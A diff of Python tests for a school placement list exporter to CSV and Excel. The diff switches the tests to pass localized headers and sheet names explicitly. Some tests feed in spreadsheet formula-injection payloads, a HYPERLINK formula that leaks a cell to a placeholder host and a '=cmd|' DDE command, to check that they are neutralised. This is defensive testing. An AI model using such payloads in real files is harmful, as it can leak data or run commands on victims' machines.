@@ -6,6 +6,7 @@ import csv
 import dataclasses
 import datetime as dt
 import io
+from collections.abc import Sequence
 from typing import Any, NamedTuple
 
 import openpyxl
@@ -22,10 +23,21 @@ from placement.rounds import bridge, jobs
 from placement.rounds import setup as rounds
 from placement.runtime import worker
 from tests import factories as f
+from tests.conftest import placement_headers, placements_sheet
 
 W45_START = dt.date(2026, 11, 2)
 W45_END = dt.date(2026, 11, 13)
 HOSTILE_NAME = '=HYPERLINK("http://x?"&A1)'
+
+
+def _csv(rows: Sequence[exports.PlacementRow], locale: str) -> bytes:
+    """The placement list as CSV, with the headers the web layer gives a user of ``locale``."""
+    return exports.to_csv(rows, placement_headers(locale))
+
+
+def _xlsx(rows: Sequence[exports.PlacementRow], locale: str) -> bytes:
+    """The placement list as XLSX, headers and sheet name as the web layer gives them to a user of ``locale``."""
+    return exports.to_xlsx(rows, placement_headers(locale), title=placements_sheet(locale))
 
 
 class World(NamedTuple):
@@ -139,9 +151,7 @@ def test_rows_are_sorted_by_school_class_and_name_in_swedish_order(db_session: S
 def test_rows_hold_no_birth_date_gender_or_attributes() -> None:
     fields = {field.name for field in dataclasses.fields(exports.PlacementRow)}
     assert not fields & {"birth_year", "birth_month", "gender", "attributes", "external_id"}
-    assert [column.field for column in exports.COLUMNS] == [
-        field.name for field in dataclasses.fields(exports.PlacementRow)
-    ]
+    assert list(exports.COLUMNS) == [field.name for field in dataclasses.fields(exports.PlacementRow)]
 
 
 def test_a_school_gets_only_its_pupils(db_session: Session) -> None:
@@ -240,7 +250,7 @@ def test_neutralise_prefixes_only_formula_starts(value: object, expected: object
 
 def test_csv_cells_that_look_like_formulas_get_an_apostrophe(db_session: Session) -> None:
     world = _world(db_session)
-    table = _csv_table(exports.to_csv(exports.placement_rows(db_session, world.allocation_round.id), "sv"))
+    table = _csv_table(_csv(exports.placement_rows(db_session, world.allocation_round.id), "sv"))
     cells = {cell for row in table[1:] for cell in row}
     assert "'" + HOSTILE_NAME in cells
     assert {"'+46 Kundtjänst", "'-lager och logistik", "'@butik"} <= cells
@@ -249,7 +259,11 @@ def test_csv_cells_that_look_like_formulas_get_an_apostrophe(db_session: Session
 
 def test_xlsx_cells_that_look_like_formulas_are_plain_text_with_an_apostrophe(db_session: Session) -> None:
     world = _world(db_session)
-    data = exports.to_xlsx(exports.placement_rows(db_session, world.allocation_round.id), "sv")
+    data = exports.to_xlsx(
+        exports.placement_rows(db_session, world.allocation_round.id),
+        placement_headers("sv"),
+        title=placements_sheet("sv"),
+    )
     sheet = openpyxl.load_workbook(io.BytesIO(data)).active
     assert sheet is not None
     cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
@@ -285,7 +299,11 @@ def _row(**changes: Any) -> exports.PlacementRow:
 
 
 def test_xlsx_keeps_error_codes_and_control_characters_as_harmless_text() -> None:
-    data = exports.to_xlsx([_row(last_name="#N/A", first_name="Eva\x07\x1b", offer_title="=cmd|' /C calc'!A0")], "en")
+    data = exports.to_xlsx(
+        [_row(last_name="#N/A", first_name="Eva\x07\x1b", offer_title="=cmd|' /C calc'!A0")],
+        placement_headers("en"),
+        title=placements_sheet("en"),
+    )
     sheet = openpyxl.load_workbook(io.BytesIO(data)).active
     assert sheet is not None
     values = {cell.value: cell.data_type for cell in sheet[2]}
@@ -300,13 +318,13 @@ def test_xlsx_keeps_error_codes_and_control_characters_as_harmless_text() -> Non
 def test_csv_opens_in_swedish_excel(db_session: Session) -> None:
     world = _world(db_session)
     rows = exports.placement_rows(db_session, world.allocation_round.id)
-    data = exports.to_csv(rows, "sv")
+    data = _csv(rows, "sv")
     assert data.startswith(b"\xef\xbb\xbf")
     assert "Åsa".encode() in data
     header_line = data[3:].split(b"\r\n", 1)[0].decode()
     assert header_line.split(";")[:5] == ["Skola", "Klass", "Efternamn", "Förnamn", "Elevkod"]
     table = _csv_table(data)
-    assert table[0] == exports.headers("sv")
+    assert table[0] == placement_headers("sv")
     assert len(table) == 1 + len(rows)
     assert all(len(line) == len(exports.COLUMNS) for line in table)
     asa = next(line for line in table if line[4] == _code(world.pupils["asa"]))
@@ -321,7 +339,7 @@ def test_csv_opens_in_swedish_excel(db_session: Session) -> None:
 
 def test_csv_quotes_semicolons_quotes_and_line_breaks() -> None:
     title = 'Kock; "kall" kök\noch disk'
-    table = _csv_table(exports.to_csv([_row(offer_title=title)], "en"))
+    table = _csv_table(_csv([_row(offer_title=title)], "en"))
     assert len(table) == 2
     assert table[1][table[0].index("Title")] == title
 
@@ -332,11 +350,11 @@ def test_csv_quotes_semicolons_quotes_and_line_breaks() -> None:
 def test_xlsx_has_a_bold_frozen_header_date_cells_and_widths(db_session: Session) -> None:
     world = _world(db_session)
     rows = exports.placement_rows(db_session, world.allocation_round.id)
-    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(rows, "sv"))).active
+    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx(rows, "sv"))).active
     assert sheet is not None
     assert sheet.title == "Placeringar"
     header = [cell.value for cell in sheet[1]]
-    assert header == exports.headers("sv")
+    assert header == placement_headers("sv")
     assert all(cell.font.bold for cell in sheet[1])
     assert sheet.freeze_panes == "A2"
     assert sheet.max_row == 1 + len(rows)
@@ -353,25 +371,25 @@ def test_xlsx_has_a_bold_frozen_header_date_cells_and_widths(db_session: Session
 
 
 def test_xlsx_leaves_the_rank_of_an_unranked_placement_empty() -> None:
-    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([_row(rank=None), _row(rank=2)], "en"))).active
+    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx([_row(rank=None), _row(rank=2)], "en"))).active
     assert sheet is not None
     column = [cell.value for cell in sheet[1]].index("Choice no.") + 1
     assert [sheet.cell(row=r, column=column).value for r in (2, 3)] == [None, 2]
 
 
 def test_an_empty_list_is_a_header_row() -> None:
-    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([], "en"))).active
+    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx([], "en"))).active
     assert sheet is not None
     assert sheet.title == "Placements"
     assert sheet.max_row == 1
-    assert _csv_table(exports.to_csv([], "en")) == [exports.headers("en")]
+    assert _csv_table(_csv([], "en")) == [placement_headers("en")]
 
 
 # --- headers and file names -------------------------------------------------------------------------------------------
 
 
 def test_headers_in_swedish_and_english() -> None:
-    sv, en = exports.headers("sv"), exports.headers("en")
+    sv, en = placement_headers("sv"), placement_headers("en")
     assert len(sv) == len(en) == len(exports.COLUMNS)
     assert sv[:10] == [
         "Skola",
@@ -397,8 +415,8 @@ def test_headers_in_swedish_and_english() -> None:
         "Employer",
         "Offer code",
     ]
-    assert exports.headers("en_GB") == en
-    assert exports.headers("de") == sv
+    assert placement_headers("en_GB") == en
+    assert placement_headers("de") == sv
 
 
 @pytest.mark.parametrize(
